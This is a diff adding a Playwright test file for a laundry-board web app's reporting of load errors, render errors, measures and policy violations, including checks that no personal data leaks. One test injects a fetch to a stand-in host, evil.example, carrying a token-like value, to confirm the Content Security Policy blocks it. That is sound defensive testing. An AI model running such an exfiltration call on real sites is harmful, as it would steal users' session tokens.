@@ -1,0 +1,209 @@
+import type { Page } from '@playwright/test';
+import {
+  CONTRACT_VERSIONS,
+  REMOTE_ENTRY_FILE,
+  REMOTES,
+  type Report,
+} from '@laundry-board/shared-types';
+import { boardPage } from '../../support/boardPage.ts';
+import { expectRefusal, LOAD_FAILURE } from '../../support/fixtures.ts';
+import { expect, type ReportedSite, test } from '../../support/reportedSite.ts';
+import { sampleSchool } from '../../support/schools.ts';
+
+const ADA = 'ada@campus.example';
+/** The page's URL names a building, and something that looks like a token. */
+const BOARD = '/?building=maple&token=eyJhbGciOi';
+
+/** Who and where the resident is, in any writing; nor is there any URL or host. */
+const PERSONAL = /ada|lovelace|campus|maple|north|east|eyJ|localhost|127\.0|[?&@]|https?:/i;
+
+function errorsOf({ reports }: ReportedSite): readonly Report[] {
+  return reports.filter(({ type }) => type === 'error');
+}
+
+/** Leaves the page, and expects a report like this, without a word that names anybody. */
+async function expectReport(
+  page: Page,
+  site: ReportedSite,
+  wanted: Record<string, unknown>,
+): Promise<void> {
+  await page.goto('about:blank');
+  await expect.poll(() => site.reports).toContainEqual(expect.objectContaining(wanted));
+  expect(site.bytes()).not.toMatch(PERSONAL);
+  expect(new Set(site.statuses)).toEqual(new Set([204]));
+}
+
+/** Waits until what reports has come: in a healthy visit only after the first tile. */
+function reporterLoaded(page: Page) {
+  return page.waitForResponse((response) => /\/vitals\.\w+\.js$/.test(response.url()));
+}
+
+test.beforeEach(async ({ schools }) => {
+  await schools.write('campus.example', sampleSchool());
+});
+
+test('a healthy visit reports its measures and no error @engines', async ({
+  page,
+  reported,
+  visitAs,
+}) => {
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(boardPage(page).washers.first()).toBeVisible();
+  await loaded;
+  await expectReport(page, reported, { type: 'measure', name: 'first-tile', kiosk: false });
+  const measures = reported.reports.flatMap((report) =>
+    report.type === 'measure' ? [`${report.name} ${report.remote ?? ''}`.trim()] : [],
+  );
+  expect(measures).toEqual(expect.arrayContaining(['TTFB', 'load auth', 'load board']));
+  expect(errorsOf(reported)).toEqual([]);
+  expect(new Set(reported.reports.map(({ visit }) => visit)).size).toBe(1);
+});
+
+test('a visitor’s page reports when the login screen was there', async ({ page, reported }) => {
+  const loaded = reporterLoaded(page);
+  await page.goto(reported.origin);
+  await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
+  await loaded;
+  await expectReport(page, reported, { type: 'measure', name: 'login-screen' });
+});
+
+test('a dead board is reported @engines', async ({
+  page,
+  pageConsole,
+  reported,
+  visitAs,
+  site,
+}) => {
+  pageConsole.expectErrors(/The board could not be loaded/, LOAD_FAILURE);
+  await page.route(`${site.config.remotes.board}**`, (route) => route.abort('connectionrefused'));
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
+  await loaded;
+  await expectReport(page, reported, {
+    type: 'error',
+    remote: 'board',
+    phase: 'loading its entry',
+    failure: 'unreachable',
+    ended: 'never',
+  });
+});
+
+test('a board that recovers by a click says so', async ({
+  page,
+  pageConsole,
+  reported,
+  visitAs,
+  site,
+}) => {
+  pageConsole.expectErrors(/The board could not be loaded/, LOAD_FAILURE);
+  let isBroken = true;
+  await page.route(`${site.config.remotes.board}**`, (route) =>
+    isBroken ? route.abort('connectionrefused') : route.fallback(),
+  );
+  await page.clock.install();
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
+  await loaded;
+  isBroken = false;
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await expect(boardPage(page).washers.first()).toBeVisible();
+  await expectReport(page, reported, {
+    failure: 'unreachable',
+    ended: expect.stringMatching(/^by-/),
+  });
+});
+
+test('a pin whose entry is refused is reported', async ({
+  page,
+  pageConsole,
+  reported,
+  visitAs,
+}) => {
+  pageConsole.expectErrors(/The board could not be loaded/, LOAD_FAILURE);
+  const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
+  await reported.configure({ pins: { board: pin } });
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
+  await loaded;
+  await expectReport(page, reported, { type: 'error', remote: 'board', failure: 'damaged' });
+});
+
+test('a board that throws while it renders is reported with its version', async ({
+  page,
+  pageConsole,
+  reported,
+  visitAs,
+  site,
+}) => {
+  pageConsole.expectErrors(/The board could not be loaded/, /Maple House of Ada Lovelace/);
+  const { container } = REMOTES.board;
+  const body = `
+    const Board = () => { throw new TypeError('Maple House of Ada Lovelace'); };
+    window.${container}_version = '02812eb';
+    window.${container}_built_against = { contract: ${CONTRACT_VERSIONS.board}, shared: {} };
+    window.${container} = { init() {}, get: () => Promise.resolve(() => ({ Board })) };`;
+  await page.route(`${site.config.remotes.board}${REMOTE_ENTRY_FILE}*`, (route) =>
+    route.fulfill({
+      body,
+      contentType: 'text/javascript',
+      headers: { 'Access-Control-Allow-Origin': '*' },
+    }),
+  );
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
+  await loaded;
+  await expectReport(page, reported, {
+    type: 'error',
+    remote: 'board',
+    remoteVersion: '02812eb',
+    phase: 'rendering',
+    failure: 'threw',
+    message: expect.stringMatching(/^threw: TypeError at remoteEntry\.js:\d+:\d+$/),
+  });
+});
+
+test('a violation of the policy is reported', async ({ page, pageConsole, reported }) => {
+  expectRefusal(pageConsole, /connect-src https:\/\/evil/);
+  const loaded = reporterLoaded(page);
+  await page.goto(reported.origin);
+  await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
+  await loaded;
+  const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
+  await page.evaluate(`void setTimeout(() => { ${code} })`);
+  await expect.poll(() => pageConsole.lines.join()).toContain('connect-src https://evil');
+  await page.goto('about:blank');
+  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
+  await expect
+    .poll(() => reported.reports)
+    .toContainEqual(expect.objectContaining({ ...violation, kiosk: false }));
+});
+
+test('without an endpoint nothing is loaded or sent', async ({ page, site, visitAs }) => {
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await visitAs(ADA, site.origin);
+  await expect(boardPage(page).washers.first()).toBeVisible();
+  await page.goto('about:blank');
+  expect(requests.filter((url) => /reports|vitals/.test(url))).toEqual([]);
+});
+
+test('an endpoint that is gone changes nothing', async ({
+  page,
+  pageConsole,
+  reported,
+  visitAs,
+}) => {
+  pageConsole.expectErrors(LOAD_FAILURE);
+  await reported.configure({ reportEndpoint: 'http://localhost:1/' });
+  const loaded = reporterLoaded(page);
+  await visitAs(ADA, reported.origin);
+  await expect(boardPage(page).washers.first()).toBeVisible();
+  await loaded;
+  await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
+  await expect(boardPage(page).washers.first()).toBeVisible();
+});
